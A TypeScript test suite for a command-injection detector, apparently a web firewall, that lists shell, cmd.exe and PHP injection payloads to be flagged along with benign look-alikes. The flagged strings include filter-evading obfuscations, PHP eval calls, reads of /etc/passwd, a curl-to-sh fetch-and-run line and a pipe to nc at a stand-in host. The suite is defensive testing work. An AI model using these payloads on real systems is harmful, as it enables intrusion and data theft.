// session 22 (cf26, rtd24 repro 14): cmd.exe hands a relative path with another runnable extension to its program (.scr
// .pif are programs, .vbs .vbe .wsf Windows Script Host's, .hta mshta's, .msi msiexec's, .ps1 PowerShell's). Not .js or .jse
// (WSH's too): a .js file is named everywhere in developer text, and each way tried to tell the two apart could be worn by an
// attacker (red teams rte26, rtf26). A path between a table's '|' cells (| setup.exe | 1.2 MB |) is a pipeline stage too:
// with the application's own suffix after the value (2>&1, > /dev/null) even a row ending in '|' runs (rtf26), so no cell
// reading releases it.
describe('cmdi session 22 (cf26): runnable extensions after & | newline', () => {
  it.each(['x&a.vbs', 'x&a.scr', 'x&a.hta', 'x&a.wsf', 'x&a.ps1', 'x|a.ps1', 'x|a.scr', 'x&a.pif', 'x&a.msi',
    'x | a.exe', 'x | a.exe x', 'x|a.exe |', 'x | uploads\\a.exe /S', 'x | a.vbs ', '| setup.exe | 1.2 MB |', 'x | a.exe |',
    'x | uploads/run.sh |', '| a.exe | C# |'])('%s is a command', expectCmdi);
  it.each(['| index.js | entry point |', '| asynckit.min.js.gz |  1.47 kB |', '| a.js |', 'x&a.json', 'x&a.js', 'x|a.jse',
    'x|a.jsx', 'Hi\nsetup.msi fails', 'x&Readme.txt', 'File | Open'])('%s stays clean', expectNoCmdi);
});

// session 22 (cf26, rtd24 repro 14): cmd.exe drops a caret in the program's path and the quotes glued to its separator
// around it (x&^a.exe, x&a^.exe, x&"uploads\a.exe"), and expands a variable opening it (x&%PUBLIC%\a.exe); sh keeps a
// caret after ';', a quoted word or a variable with no program's path after it stays clean
describe('cmdi session 22 (cf26): cmd.exe program paths with a caret, in quotes, or opening with a variable', () => {
  it.each(['x&"uploads\\a.exe"', 'x&"a.bat"', 'x|"a.exe"', 'x&^a.exe', 'x&a^.exe', 'x&uploads^\\a.exe', 'x&"c:\\a.exe"', 'x|^"a.vbs"',
    'x&%FOO%\\a.exe', 'x|%HOMEPATH%\\uploads\\a.bat', 'x & %PUBLIC%\\a.exe /S', 'x\n%PUBLIC%\\a.exe'])('%s is a command', expectCmdi);
  // (a caret inside the extension: the pieces are judged joined)
  it.each(['x&a.e^xe', 'x&a.^exe', 'x&a.ex^e', 'x&a.e^x^e', 'x&a.v^bs', 'x|uploads\\a.b^at', 'x&a.h^ta', 'x&"a.e^xe"'])('%s is a command', expectCmdi);
  it.each(['x&a.exe^x', 'x&a.c^om', 'x&a.t^xt', 'Barnes&Noble.c^om'])('%s stays clean', expectNoCmdi);
  it.each(['"a"|"b"|"c"', '"a"&"b.txt"', 'AT&"T"', 'x;b^/c.sh', 'R&"D"', 'x;%FOO%\\a.exe', '50%&%off%\\notes.txt', 'Save 50% & %off% today',
    'x&%FOO%', 'Tom & "Jerry"'])('%s stays clean', expectNoCmdi);
});

// session 22 (cf26): bash forms that spelled the same file or command in pieces: a glob naming the file $(< or `< reads,
// trap's operand with a backslash or empty quotes in it, and the dot builtin on a new line sourcing a script whose name
// is also a command's (cmd.sh); make's $(<D), a tagged template's markup, trap before a word that names no signal stay clean
describe('cmdi session 22 (cf26): a glob after $(<, trap i\\d EXIT, x\\n. cmd.sh', () => {
  it.each(['x$(<[s]ecret.txt)', 'x$(<*.env)', 'x$( <[s]ecret.txt)', 'x$(< ?ecret)', 'x`<[s]ecret.txt`', 'x`<*.env`',
    'trap i\\d EXIT', 'x;trap i\\d EXIT', "x;trap i''d 0", 'x;trap c\\a\\t EXIT', 'x;trap \\i\\d EXIT',
    'x\n. cmd.sh', 'x\n. cmd.ps1', 'x\n. ls.bash'])('%s is a command', expectCmdi);
  it.each(['$(<D)', '$(<)', 'html`<div>`', '`<*>`', 'trap i\\d cards', 'trap i\\d', 'Hello\n. cat.txt', 'x cmd.sh', 'x\ncmd.sh'])('%s stays clean', expectNoCmdi);
});

// session 22 (cf26): PowerShell's gc (Get-Content) after a separator, judged as a weak command word (a drive, a dotted file
// name or an option after it); "gc" in prose about garbage collection stays clean
describe('cmdi session 22 (cf26): PowerShell gc reading a file after a separator', () => {
  it.each([';gc C:\\x', 'x;gc secret.txt', 'x|gc C:\\x', 'x;gc -Path C:\\a.txt'])('%s is a command', expectCmdi);
  it.each(['Java; gc logs', 'Use G1 GC; it helps', 'GC; SAL a thing', 'Full GC | 1.2 s |', 'gc pauses; heap'])('%s stays clean', expectNoCmdi);
});

describe('cmdi session 21 (rtc23): shell syntax only a command line has: a here-string, an array element as the command', () => {
  it.each(['tr a-y b-z<<<hc', 'x;$(tr a-y b-z<<<hc)', 'x;foo<<<"id"', "x|base64 -d<<<'aWQ='", 'x;a=(id);${a[0]}', 'x;${a[0]}', 'x|${cmds[@]}'])('%s is a command', expectCmdi);
  // (a '<<<' with a space or a fourth '<' after it: navigation, a merge conflict, Haskell's operator; a JavaScript template's ${a[0]})
  it.each(['<<< Back | Next >>>', '<<<<<<< HEAD', 'f <<< g', 'a<<b', '${items[0]}', 'Total: ${a[0]} items', 'x << EOF'])('%s stays clean', expectNoCmdi);
});

// session 21 (held-out stand-in hs24, commix's eval-based technique): PHP code handed to eval. The call is glued to the
// value (the last word ends with the function's name), follows a break-out byte glued to it (; ) . a line break), or
// sits in PHP's complex syntax {${…}} (whose call runs whatever it names). Runners need a command, eval/assert a
// decoder or a runner, phpinfo() its ')', print a sum of two numbers (commix's probe; print(22+31) alone is a
// tutorial's line, not taken, nor at a line's start). The hits fail before; the clean rows are the look-alikes.
describe('cmdi session 21: PHP calls glued to the value, after a break-out, or in {${…}} (commix eval)', () => {
  const hits = [
    "127.0.0.1eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))", "INJECT_HEREpassthru('id')", "127.0.0.1shell_exec('whoami');",
    'xsystem(id)', "8.8.8.8popen('uname -a','r')", "1assert(str_rot13('flfgrz'))",
    '127.0.0.1phpinfo()//', '{${phpinfo()}}', 'x;phpinfo();', 'foo.txt{${phpinfo()}}', '1\nphpinfo();', 'a);phpinfo()',
    '{${zzfunc(1)}}', 'x{${print(79+30)}}', '1${print(32+57)}', '8.8.8.8;print(22+31);', '127.0.0.1);print(64+70);',
    "127.0.0.1'.print(29+55).'", '127.0.0.1".print(21*51)."', 'foo.txtprint(43+86)',
  ];
  const contexts = ['query', 'form', 'json'] as const;
  const asSent = (input: string, context: string) =>
    context === 'json' ? input : encodeURIComponent(input).replace(/%2[89]/g, (m) => (m === '%28' ? '(' : ')'));
  it.each(hits.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s is an exec-call', (input, context) => {
    const r = d.scan(asSent(input, context), { context });
    expect(ruleIds(r)).toContain('cmdi.exec-call');
    expect(r.blocked).toBe(true);
  });
  const clean = [
    'the system (see docs)', 'medieval(times)', "retrieval('x')", "filesystem('ext4')", 'run phpinfo() to see', "type 'phpinfo()' here",
    'print(22+31)', 'print(2+3) gives 5', 'x = 5\nprint(2+3)', 'x = 5\\nprint(2+3)', 'blueprint(v2)', "myexec('x')", '{${name}}',
    'usleep(100)', 'ecosystem(s)', 'the eval() docs', 'assert(x == 1)', 'fingerprint(sha256)',
  ];
  it.each(clean.flatMap((h) => contexts.map((c) => [h, c] as const)))('%j in %s stays clean', (input, context) => {
    expect(d.scan(asSent(input, context), { context }).blocked).toBe(false);
  });
  it('spans the finding from the function name', () => {
    const r = d.scan("127.0.0.1passthru('id')", { context: 'json' });
    expect(r.threats.find((t) => t.ruleId === 'cmdi.exec-call')).toMatchObject({ offset: 9, length: 12 }); // (to the command's end)
  });
  it('gives the same findings split anywhere', () => {
    for (const c of contexts) expectSameWhenSplit(d, [...hits.map((h) => asSent(h, c)), ...clean.map((h) => asSent(h, c))], c);
  });
});

describe('cmdi session 21 (rtc23 repro 17): a redirection alone after ; | & creates or truncates its target', () => {
  // (sh runs an empty command with its redirection; ':' is the null command; cmd.exe does the same after & and |)
  it.each(['x;>index.html', 'x|>file', 'x;>app.db', 'x;:>app.db', 'x; : > app.db', 'x&>app.db', 'x; > out.txt', 'x&&>>log.txt', 'x||>file',
    'x;2>err.log', 'x;>/var/www/html/index.php', 'x;>~/.bashrc', 'x;>.htaccess', 'x;>f.txt;y', 'x|>Index.html'])('%s is a command', expectCmdi);
  // arrows, a comparison, quoting marks, a smiley, a number, more words after the target, a Title-case or generated run
  // after the '>' (a password's "kgZed9msk;>oKUts"), a mail quote after a newline
  it.each(['a > b', 'x->y', 'a => b', '>>> quote', 'x; >>> quote', 'x; >_<', 'Price; > 100', 'x; > one of them', 'x;>Out', 'Hi\n>quoted',
    'kgZed9msk;>oKUts', 'Xc}1LuU0:bCIp;>g', 'UrmrV+3pK|>_;291', 'VT^|H|I$;>GzycwC', 'x;>', 'a;>>>b'])('%s stays clean', expectNoCmdi);
});

describe('cmdi session 21 (hs24): a raw "#" glued after a command word in a URL ends the value the application reads', () => {
  // sh, cmd.exe and PowerShell keep a glued '#' in the word ("id#", "whoami#" run nothing), but a raw '#' in a query or a
  // path starts the fragment, which the application's URL parser cuts off: ?q=x;id# gives x;id
  it.each(['google.com&whoami#', 'x;id#', 'x;id#frag', '127.0.0.1 |whoami#', '1%26whoami#', '%22||systeminfo#', 'x;cat#1'])('%s in a query is a command', (input) => {
    for (const context of ['query', 'path'] as const) {
      const r = d.scan(input, { context });
      expect(r.blocked, `${context}: ${JSON.stringify(input)}`).toBe(true);
      expect(ruleIds(r).some((id) => id.startsWith('cmdi.')), `${context}: ${JSON.stringify(input)}`).toBe(true);
    }
    expectSameWhenSplit(d, [input], 'query');
  });
  // (a %23 is the value's own '#', as is any '#' in a form or JSON value: the word then is "systeminfo#"; a '#' glued to no
  // command numbers something)
  it.each(['test|systeminfo%23', '1%26whoami%23', 'x;id%23', 'Apt#4B', 'x&issue#42', 'C#', 'Room #4'])('%s in a query stays clean', (input) => {
    expect(ruleIds(d.scan(input, { context: 'query' })).filter((r) => r.startsWith('cmdi.'))).toEqual([]);
    expectSameWhenSplit(d, [input], 'query');
  });
  it.each(['google.com&whoami#', 'x;id#', 'test|systeminfo#', '127.0.0.1 |whoami#'])('%s in a form or JSON value stays clean', (input) => {
    for (const context of ['form', 'json'] as const) expect(ruleIds(d.scan(input, { context })).filter((r) => r.startsWith('cmdi.')), context).toEqual([]);
  });
});

describe('cmdi session 21 (hs24): usleep, sleep in microseconds (busybox, initscripts)', () => {
  it.each(['test&&usleep 1000000', 'x;usleep 5', 'x|usleep\t3000000', "x'\nusleep 3000000|", 'x;$(usleep 5)'])('%s is a command', expectCmdi);
});

describe('cmdi session 21 (rt-fp): a mail line the server would reject runs nothing', () => {
  // IMAP-only verbs without a tag (IMAP answers BAD; SMTP and POP3 know none of them), and a verb that needs an argument
  // alone at the end of its line
  it.each(['hi\nuid 123', "hi\nlogout doesn't work", 'hi\nauthenticate with google fails', 'hi\nexpunge the old ones', 'hi\npass',
    'x\r\nPASS', 'x\r\nuid 5', 'x\r\nlogout', 'x\r\na1 SELECT'])('%s stays clean', expectNoCmdi);
  it.each(['x\r\nDATA\r\n', 'x\r\nQUIT', 'x\r\nDATA', 'x\r\nLIST', 'x\r\na1 LOGOUT', 'x\r\na1 UID FETCH 1 BODY[]', 'x\r\na1 logout',
    'x\r\na1 EXPUNGE', 'x\r\nUSER admin\r\nPASS secret\r\n', 'x\r\nMAIL FROM:<a@evil.example>', 'x\r\na1 SELECT INBOX', 'x\r\na1 close', 'hi\nhelp'])('%s is a command', expectCmdi);
});

describe('cmdi session 22 (cf26b): an unset $name glued inside a /bin/ path expands to nothing', () => {
  // /usr/bin$v/id is /usr/bin/id when $v is unset (a lower-case name, which the environment does not set); ${v} likewise
  it.each([';/usr/bin$v/id', 'x|/bin$q/cat /tmp/a', ';/usr$e/bin$e/whoami', 'x&&/bin${k}/uname -a', ';/usr/bin/$v/id', ';/$v/bin/id',
    'x;/usr/local/bin${_x}/curl x', "x';/bin$abc/ls;'"])('%s is a command', expectCmdi);
  // an upper-case name may be set ($PATH $HOME), a digit is a positional parameter or a price; an unclosed ${ is no name
  it.each(['x;/usr/bin$HOME/id', 'x;/bin$PATH/id', 'x;/usr/bin$5/id', 'PATH=/usr/local/bin:$PATH', 'Paid US$10/bin$x',
    'My scripts are in $HOME/bin/tools', 'costs $5/month on /usr/bin$', 'x;/usr/bin${HOME}/id'])('%s stays clean', expectNoCmdi);
});

describe('cmdi session 22 (cf26b): true, false and : after a separator run nothing', () => {
  // a no-op (with or without arguments, which it ignores) is no command an injection runs
  it.each(['true || false', 'x; true', 'x || true', 'x;true;', 'x; true 5', 'x; false id', 'x\ntrue', 'x || :', 'x; : id',
    'a && false || true', 'enabled: true || false'])('%s stays clean', expectNoCmdi);
  // the command after the next separator still runs, and a substitution of a no-op is the probe it always was
  it.each(['true; id', 'false || id', ':; id', 'x;true;id', 'x; true && uname -a', 'x; false | nc a 1', 'x;`true`', 'x;$(false)',
    'x\ntrue\nid'])('%s is a command', expectCmdi);
  // 1 || true, 1 && true: MySQL's 1 OR TRUE, which cmdi read as a chained no-op; sqli.ts's literalLogic now reads it
  it.each(['1 || true', '-1 && true', '0 || null'])('%s is still flagged, as SQL', (input) => {
    for (const context of CTX) expect(ruleIds(d.scan(input, { context })), `${context}: ${JSON.stringify(input)}`).toContain('sqli.tautology');
    expectSameWhenSplit(d, [input]);
  });
  it.each(['1 || 2', 'Step 1 || true', '1 || x'])('%s stays clean', (input) => {
    for (const context of CTX) expect(d.scan(input, { context }).blocked, `${context}: ${JSON.stringify(input)}`).toBe(false);
  });
});

describe('cmdi session 22 (cf26b): a command name cut into letters by quotes opening the value', () => {
  // three or more quotes (an odd count: the last is one the application's command line closes), one letter between them
  it.each(["p'i'n'g -c 1 x", "c'u'r'l x", 'w"g"e"t x', "n's'l'o'o'k'u'p x", "c'a't'", 'c"a"t /tmp/x', "i''d"])('%s is a command', expectCmdi);
  // a contraction or a name has one apostrophe (I'd spells id, l's spells ls); rock'n'roll spells no command
  it.each(["O'Neil", "D'Andre", "rock'n'roll", "Rock'n'Roll", "I'd", "l's", "y'all'd've", "I'd'd", "O'Neil's"])('%s stays clean', expectNoCmdi);
});

describe('cmdi session 22 (cf26c, rte26 04; rtf26): a table cell is a pipeline stage', () => {
  // "| path |" is a pipeline stage: sh and cmd.exe run it, also when the value ends in a '|' and the application's command
  // line goes on after it (ping -c1 <value> 2>&1)
  it.each(['x | uploads/run.sh | cat', '| uploads/run.sh | cat', 'x | uploads/run.sh\t| cat', 'x | uploads/run.sh |x',
    'x || uploads/run.sh || y', 'x | a.exe | more', ';| a.bat | more', 'x |\ta.exe\t| more', 'x | uploads\\a.exe | more',
    'x | a.bat | find "x"', 'x | uploads/run.sh | cat #|', 'x | uploads/run.sh | cat \\|', 'x | a.exe | more ^|',
    'x | uploads/run.sh |\ncat |', '| a.exe | x;# |', 'x | uploads/run.sh |\f', 'x | uploads/run.sh |\v',
    'x | uploads/run.sh |\u00a0', '| setup.exe | 1.2 MB |  ', '| Name | Size |\n|---|---|\n| setup.exe | 1.2 MB |'])('%s is a command', expectCmdi);
});

describe('cmdi session 22 (cf26c, rte26 07): a .js file is everywhere in developer text; nothing runs by association after a newline', () => {
  // cmd.exe runs only the line before a newline, and sh reads src\App.js as srcApp.js: after a newline only a program's
  // extension counts (x\nuploads\a.exe); .js and .jse count nowhere (see cf26's block above)
  it.each(['Failed to compile.\nsrc\\App.js\n  Line 5: x is not defined', 'Changed files:\nsrc\\index.js\nsrc\\App.js',
    'Error in\nlib\\utils.js line 40', 'src\\app.js | 4 ++--\nsrc\\b.js | 2 +-', 'The build broke after editing\nscripts\\deploy.ps1',
    'Attached:\ndocs\\install.msi', 'Files|src\\a.js|src\\b.js', 'Barnes&Noble.js', 'P&G\\scripts\\build.js', 'Q&A\\answers.js',
    'AT&T\\billing\\invoice.js', 'x\nuploads\\a.vbs'])('%s stays clean', expectNoCmdi);
  it.each(['x&a.vbs',
    'x|uploads\\a.vbs', 'x|a.ps1', 'x&uploads\\a.ps1', 'x\nuploads\\a.exe', 'x\nuploads\\run.bat'])('%s is a command', expectCmdi);
});

describe('cmdi session 22 (cf26c, rte26 09): gc (Get-Content) counts only given a path', () => {
  // a metric's label or log text: gc alone, glued to a separator or given a plain word reads no file
  it.each(['heap|gc|cpu', 'a|gc b', 'GC;gc\nstop', 'x;gc', 'x|gc', 'x;gc b'])('%s stays clean', expectNoCmdi);
  it.each([';gc C:\\x', 'x;gc secret.txt', 'x|gc C:\\x', 'x;gc -Path C:\\a.txt', 'x;gc /etc/passwd', 'x;gc ../a', 'x;gc ~/a',
    'x;gc a\\b', 'x;gc $env:x', 'x|gc b|iex', 'x;gc b;id'])('%s is a command', expectCmdi);
});

describe('cmdi session 23 (hs27): a quote inside the other kind is a byte of the word, not a cut', () => {
  // "I'd say it's fine" is one double-quoted word with apostrophes in it: the shell runs no command named I'd (the joined
  // letters spelled id only when every quote counted as a cut). A JSON fragment in a form field carries such text.
  it.each(['"I\'d say it\'s fine"', '{"comment":"I\'d say it\'s fine","rating":4}', ':"I\'d say"', '"i\'d"', "'i\"d'", "x;i'\"'d"])(
    '%s stays clean', expectNoCmdi);
  // quotes of one kind still cut the name, and a backtick substitution quotes afresh inside "…" or '…'
  it.each(['x;i"d"', "x;'w'h'o'a'm'i", "x;\"i\"'d'", "x;$'i'd", "p'i'n'g -c 1 x", "'`i\"d\"`", "\"`w'h'o'ami`\""])('%s is a command', expectCmdi);
  // red team rt27: a quote the tracker took for a literal that the shell drops or reads as quoting — inside an expansion that
  // expands to nothing (${x:+"'"}), after a backslash, or after a backtick substitution closed — ran id while the word was dropped.
  // The literal reading now holds only in words of letters and quotes alone (JQ_NOLIT); in any other word every quote counts as
  // before. All run in bash, dash and busybox sh (the value alone, after echo, or inside the application's '…' or "…").
  it.each([
    "i\'d\'${x:+\"\'\"}",
    "wh\'o\'ami${x:+\"\'\"}",
    "i${x:+\"\'\"}\'d\'",
    "${x:+\'\"\'}i\"d\"",
    "u\'n\'ame${x:+\"\'\"} -a",
    ";i\'d\'${x:+\"\'\"}",
    ";i${x:+\"\'\"}d",
    "x;wh\'o\'ami${x:+\"\'\"}",
    "x|i${x:+\"\'\"}d",
    "x&&wh${x:+\"\'\"}oami",
    "\';i\'d\'${x:+\"\'\"};\'",
    "\';i${x:+\"\'\"}d;\'",
    "\";i\'d\'${x:+\"\'\"};\"",
    "\";i${x:+\"\'\"}d;\"",
    "`i\'d\'`\"\'\"",
    "`wh\'o\'ami`\"\'\"",
    "\"`i\'d\'`\"\'\'",
    "x\"`i\'d\'`\"\'\'",
    "\"`u\'n\'ame`\"\'\'",
    "\'\"`i\'d\'`\"\'",
    "x\'\"`i\'d\'`\"\'",
    "\';\"`i\'d\'`\"\'",
    "\"\'`i\'d\'`\'\"",
    "\"`i\'d\'`\"\'",
    "x\"`wh\'o\'ami`\"\'",
    "$(i\'d\'${x:+\"\'\"})",
    "\"$(wh\'o\'ami${x:+\"\'\"})\"",
    "i${x:+\\\'}\"d\"",
    "`i\'d\'`\'\"\'",
    "x;`i\'d\'`\"\'\"",
    "\"`i\\\"d\\\"`\"\'\'",
    "`i\"d\"`\"\'\"",
    "i\'d\'${x:+\"\'\"} -a",
  ])('%s is a command (rt27)', (input) => {
    // (a client sends '+' as %2B in a query or form: a raw '+' is a space there)
    for (const [value, context] of [[input, 'json'], [input.replace(/\+/g, '%2B'), 'query'], [input.replace(/\+/g, '%2B'), 'form']] as const) {
      const r = d.scan(value, { context });
      expect(r.blocked, `${context}: ${JSON.stringify(value)}`).toBe(true);
      expect(r.threats.some((t) => t.category === 'cmdi'), `${context}: ${JSON.stringify(value)}`).toBe(true);
    }
    expectSameWhenSplit(d, [input.replace(/\+/g, '%2B')]);
  });
});

describe("cmdi session 23 (hs27): Perl's readpipe( is its backticks as a function", () => {
  // what a template injection into a Perl engine (Template Toolkit, [% ... %]) calls to run a command
  it.each(['print readpipe("id")', "[% template.new({'BLOCK'='print readpipe(\"id\")'}) %]", "readpipe('cat /etc/passwd')", 'readpipe($cmd)'])(
    '%s is a command', expectCmdi);
  it.each(['readpipe', 'the readpipe function in perl', 'readpipe(x)'])('%s stays clean', expectNoCmdi);
});

describe('cmdi session 24 (rt28c): a directory of wildcards alone, at the root or in a bin directory, names bin', () => {
  // /usr/*/id ran id in bash, dash and busybox sh (and downloaded and ran a script: x;/usr/*/curl -s …|/usr/*/sh); the glob
  // rule wants wildcards mixed with letters (/b?n/), the bin-path rule a literal /bin/
  it.each(['x;/usr/*/id', '/usr/*/id', '$(/usr/*/touch /tmp/x)', 'x;/*/whoami', 'x;/usr/*/curl -s 1.2.3.4/s|/usr/*/sh', '`/usr/*/touch x`', '/usr/*/id|', 'x;/?/id'])(
    '%s is a command', expectCmdi);
  it.each(['src/*/test', '/api/*/users', '/home/*/bin', '**/*.js', '/docs/*/install', 'see /*/ comment', 'a/*/cat'])('%s stays clean', expectNoCmdi);
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, ['x%3B%2Fusr%2F%2A%2Fid', '%60%2Fusr%2F%2A%2Ftouch%20x%60']); });
});

describe('cmdi session 24 (fp28): a name of four letters or more in brackets is a key, no glob class', () => {
  // filter[status]=, page[number]=, sort[created_at]= (JSON:API, Strapi, Rails) in a Referer or a redirect URL were blocked
  // as cmdi.glob-path; a class that hides a path's letter holds one to three
  it.each(['https://shop.example/products?filter[status]=active&page[number]=2', 'https://x.example/api?sort[created_at]=desc',
    '/admin?where[name][like]=bob'])('%s stays clean', (input) => {
    for (const context of ['header', 'json'] as const) expect(d.scan(input, { context }).blocked, context).toBe(false);
  });
  it.each(['/e[t]c/pa[s]swd', 'x;/e[tc]/passwd', '/[e]tc/passwd', '/e[tc]/pass[w]d'])('%s is a command', expectCmdi);
});

describe('cmdi session 24 (rt28c): a bin directory spelled in pieces right after the root is that directory', () => {
  // x;/b''in/id ran id in bash, dash and busybox (the shell drops the quotes); the bin-path rule read b and in apart
  it.each(["x;/b''in/id", "x;/bi''n/id", 'x;/b""in/id', 'x|/b""in/whoami;', 'x;/$@bin/id'])('%s is a command', expectCmdi);
  it.each(["see /b''in/ for docs", "/b''in", "a/b''in/x"])('%s stays clean', expectNoCmdi);
});

describe('cmdi session 25: a bin directory spelled in pieces further down a path, or with a backslash in it', () => {
  // (left by session 24's fix, which read a spelled name only right after the root: bash, dash and busybox drop the
  // quotes and the backslash, so each of these runs /usr/bin/id or /bin/id)
  it.each(["x;/usr/bi''n/id", 'x;/usr/bi""n/id', "x;/usr/'bin'/id", "x;/usr/b'i'n/id", 'x;/b\\in/id', 'x;/usr/b\\in/id',
    'x;/usr/local/b\\in/id', 'x|/usr/s\\bin/reboot;',
    // (red team rt29: quotes glued after the directory's name, bash, dash and busybox)
    "x;/usr/bin''/id", 'x;/usr/bin""/id', "x;/bin''/id"])('%s is a command', expectCmdi);
  // (a backslash still separates a Windows path's names: C:\Users\b\in\id holds no directory named bin; quotes around
  // another directory's name spell no bin)
  it.each(['C:\\Users\\b\\in\\id', 'a/b\\in/c', "see /usr/'local'/share", "x;/usr/'share'/id", "it's in /usr/'lib'", "see /usr/bin'' for tools"])('%s stays clean', expectNoCmdi);
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, ["x;/usr/bi''n/id", 'x;/usr/b\\in/id', 'x%3B%2Fusr%2F%27bin%27%2Fid']); });
});

describe('cmdi session 25: a command only Unix has, written in Title-case, names no command (fp28)', () => {
  // sh looks a name up by its exact case, and cmd.exe and PowerShell have no Service, Wine, Touch, Locate or Make: shop
  // titles and lists ("Sales & Service", "Food & Wine") were blocked as chained commands
  it.each(['Sales & Service', 'Cheese & Wine', 'Food & Wine magazine', 'Blog | Touch base', 'Stores | Locate a store', 'Shop | Make an appointment',
    'Terms | Service', 'Support | Service status'])('%s stays clean', (input) => {
    for (const context of ['query', 'json'] as const) expect(d.scan(input, { context }).blocked, context).toBe(false);
  });
  // (the same names in lower case or capitals, spelled with quotes or escapes, and Title-case names Windows runs: blocked)
  it.each(['x;service nginx stop', 'x;touch /tmp/x', 'x|SERVICE nginx stop', 'x;make', "x;T'ouch /tmp/x", 'x;Tou\\ch /tmp/x', 'x & Whoami', 'x | Cat /etc/passwd',
    'x;%54ouch /tmp/x',
    // (red team rt29, each run in bash, dash and busybox: inside a substitution the name still counts — its empty output
    // glued to the next word makes that word the command — and a name defined as a function runs whatever its case)
    'x;$(Touch)id', 'x;`Touch`id', 'x|$(Touch)id', 'x;$(Service)sh -c id', 'x;Make()(id);Make', 'x;Make() (id); Make',
    'x|Make()(id);Make', 'x;Service()(touch /tmp/pwned);Service', 'x;Foo()(id);Foo'])('%s is a command', expectCmdi);
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, ['Sales & Service', 'x;touch /tmp/x', 'Blog | Touch base']); });
});

describe('cmdi session 26: an English command before a dash glued to an English word, the whole value, is a search', () => {
  // "kill -bill", "top -rated", "sort -price": searches and titles (ordinary set, round 2) were blocked as a command with
  // an option. The word after the dash is four or more lowercase letters with a vowel, naming no option a tool takes
  // whole, and ends the value; a percentage after the dash (make -20%) is no option either
  it.each(['kill -bill', 'top -rated', 'sort -price', 'ping -pong', 'touch -screen', 'tail -light', 'Top -rated!',
    'sleep -tracker', 'test -drive', 'make -20%', 'cut -10%', 'head -office.', 'sort -price!'])('%s stays clean', (input) => {
    for (const context of ['query', 'json'] as const) expect(d.scan(input, { context }).blocked, context).toBe(false);
  });
  // an option a tool takes (find's tests, PowerShell's parameters in any case), a cluster after a command that is no English
  // word, capitals, an encoded letter, a short word, a number that is no percentage, and anything chained after it
  it.each(['find -name passwd', 'find -delete', 'sleep -seconds 5', 'sleep -Seconds 5', 'kill -KILL 1', 'kill -Bill', 'ls -lart', 'netstat -tulpn',
    'echo -dot', 'make -20', 'make -20 x', 'kill -9 1', 'sort -price; id', 'kill -bill | nc evil.test 80', 'x;kill -bill',
    'kill --bill', 'sort -help',
    // (red team rt30, run in bash, dash and busybox: getopt reads the word as a cluster of one-letter options, so only a
    // cluster that ends the value is let go, and only after commands none of whose options runs a command)
    'tmux -ucid', 'tmux -lluc id', 'watch -text id', 'flock -exon /tmp/lk id', 'exec -call id', 'screen -admq id', 'find -true -delete',
    'find -true -maxdepth 0 -exec id ;', 'docker -linfo run --rm alpine id', 'kill -kill -1', 'kill -kill 1234', 'cat -vets .env',
    'shuf -eeeo /tmp/x y', 'sort -ruso out /tmp/in', 'date -night ideas', 'ping -pong 10.0.0.1', 'kill -bill.sh', 'less -50% x',
    // (red team rt31: a value glued to an option in the cluster, getopt's -oFILE, acts with nothing after it)
    'sort -oindex', 'sort -ruoindex', 'sort -oindex.', 'make -fexploit', 'date -syear', 'date -fpasswd', 'file -fpasswd', 'dig -fpasswd',
    'open -aterminal', 'open -fuse', 'less -ologx', 'sort -bill!id'])('%s is a command', expectCmdi);
  it('reads the word as written: an encoded letter is no search', () => { expect(d.scan('kill+-b%69ll', { context: 'query' }).blocked).toBe(true); });
  it('gives the same findings split anywhere', () => { expectSameWhenSplit(d, ['kill -bill', 'make -20%', 'make -20', 'sort -price; id', 'kill -KILL 1']); });
});
